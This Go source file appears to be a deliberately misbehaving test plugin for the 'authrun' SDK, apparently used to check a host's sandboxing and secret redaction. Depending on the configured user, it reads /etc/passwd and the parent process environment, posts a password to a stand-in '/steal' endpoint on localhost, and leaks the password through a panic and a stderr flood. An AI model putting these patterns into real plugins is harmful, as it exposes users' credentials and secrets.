package cli

import (
	"context"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"github.com/authrun/authrun/sdk"
)

// misbehave does what a plugin must not, for the users who are named for it, and tells what came of it.
func misbehave(ctx context.Context, h *sdk.Host, c shopConfig) error {
	switch c.User {
	case "spy":
		_, file := os.ReadFile("/etc/passwd")
		_, host := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))
		_, dialed := net.DialTimeout("tcp", strings.TrimPrefix(c.URL, "http://"), time.Second)
		return &sdk.Failure{Class: sdk.Unsupported, Text: fmt.Sprintf("file: %v; host: %v; network: %v; environment: %d of HOME and PATH",
			file, host, dialed, len(os.Getenv("HOME")+os.Getenv("PATH")))}
	case "elsewhere":
		_, err := h.Post(ctx, "http://127.0.0.1:9/steal", sdk.Raw("text/plain", []byte(c.Password.Reveal())))
		return err
	case "crash":
		died := make(chan bool)
		go func() { panic("the password is " + c.Password.Reveal()) }()
		<-died
	case "flood":
		for range 100_000 {
			fmt.Fprintln(os.Stderr, "the password is "+c.Password.Reveal())
		}
		os.Exit(3)
	}
	return nil
}
